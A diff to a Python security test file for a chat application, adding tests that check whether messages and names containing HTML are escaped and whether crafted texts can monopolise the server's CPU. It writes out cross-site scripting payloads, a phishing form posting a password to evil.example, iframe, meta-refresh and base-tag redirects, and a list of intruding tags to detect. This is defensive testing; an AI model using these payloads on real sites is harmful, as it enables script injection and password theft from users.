@@ -1,10 +1,16 @@
-"""Texts: what somebody says stays text wherever it is shown, and costs little however poisonous it is."""
+"""Texts: what somebody says stays text wherever it is shown, and costs little however poisonous it is.
+
+First on a server that runs; then much more of the same, where it is rendered. tests/browser/test_scripts.py has it in
+Chromium.
+"""
 
 import re
 import time
 from html.parser import HTMLParser
 from typing import Final
 
+import httpx
+import psutil  # type: ignore[import-untyped]
 import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
@@ -15,6 +21,11 @@ from chat.model.member import FIRST_NUMBER, Member
 from chat.model.message import TEXT_LIMIT, Draft, Message, now
 from chat.model.spelling import clean_name
 from chat.words import words_of
+from tests.api.guest import Guest
+from tests.attacks import attack
+from tests.attacks.floods import search
+from tests.server import Server
+from tests.visitor import Visitor
 
 OURS: Final = {'div', 'span', 'p', 'a', 'time', 'i', 'button', 'b', 'br', 'li', 'ul', 'svg', 'path'}
 MEMBER: Final = Member(number=FIRST_NUMBER, name='Mallory')
@@ -101,6 +112,73 @@ MARKUP: Final = st.lists(
     ),
     max_size=30,
 ).map(''.join)  # fmt: skip
+
+
+INTRUDERS: Final = {'img', 'script', 'form', 'style', 'input', 'iframe', 'meta', 'link', 'base'}
+SCRIPT: Final = '<img src=x onerror=ran=1>'
+PHISHING: Final = (
+    '<form action=https://evil.example><input name=password></form>',
+    '<style>body{display:none}</style><div style="position:fixed;inset:0" class="fixed">',
+    '<iframe src=https://evil.example></iframe><meta http-equiv=refresh content=0><base href=https://evil.example>',
+)
+DEAR: Final = 0.5  # seconds of the server's CPU, in which nobody else is heard
+
+
+async def markup_after(server: Server, room: str, name: str, *texts: str) -> set[str]:
+    """The kinds of elements that somebody's browser is given after another, of this name, has said this."""
+    async with (
+        await Visitor.join(server, 'Alice', room) as alice,
+        await Visitor.join(server, name, room) as mallory,
+        Guest(server, room, 7, username=name) as program,
+    ):
+        for text in texts:
+            await mallory.say(text)
+            await program.say(f'{text} {len(texts)}')
+        await alice.say('the end')
+        await alice.hears('the end')
+        await search(alice, 'evil', 'ran')
+        await alice.quiet(0.2)
+        late = await alice.browser.get(f'/rooms/{room}')
+        page = Visitor(server, alice.browser, late.text)
+        shown = [change.get('put', '') for change in alice.changes]
+        shown += [str(panel) for change in alice.changes for panel in change.get('panels', {}).values()]
+        elements = [*alice._elements_now().values(), *page.elements.values()]
+        shown += [str(value) for each in elements for value in each.get('props', {}).values() if '<' in str(value)]
+        assert any('the end' in html for html in shown)
+        tags = {tag for html in shown for tag, _ in Tags(html).tags}
+        return tags | ({'script'} if '<script>ran' in late.text else set())
+
+
+@attack('T3', without='escaping')
+async def test_script_in_what_is_said_and_in_names_runs(server: Server) -> bool:
+    said = (SCRIPT, '<script>ran=1</script>', '</script><script>ran=1</script>')
+    return bool(INTRUDERS & await markup_after(server, 'scripts', SCRIPT, *said))
+
+
+@attack('T5', without='escaping')
+async def test_a_message_looks_like_a_form_of_the_house(server: Server) -> bool:
+    return bool(INTRUDERS & await markup_after(server, 'phishing', 'Mallory', *PHISHING))
+
+
+@attack('T4', without='plain text')
+async def test_a_poisonous_text_keeps_others_waiting(server: Server) -> bool:
+    dearest = 0.0
+    process = psutil.Process(server.pid)
+    async with await Visitor.join(server, 'Mallory', 'poison') as mallory:
+        other = httpx.AsyncClient(base_url=server.url, verify=False, timeout=30)
+        for text in POISON:
+            mallory.frames.clear()
+            before = sum(process.cpu_times()[:2])
+            await mallory.say(text.encode('utf-8', 'replace').decode())
+            await other.get('/healthz')  # comes after it
+            dearest = max(dearest, sum(process.cpu_times()[:2]) - before)
+            if dearest > DEAR:
+                break
+        else:
+            await mallory.say('undisturbed')
+            await mallory.hears('undisturbed')
+        await other.aclose()
+    return dearest > DEAR
 
 
 @pytest.mark.attack('T4')
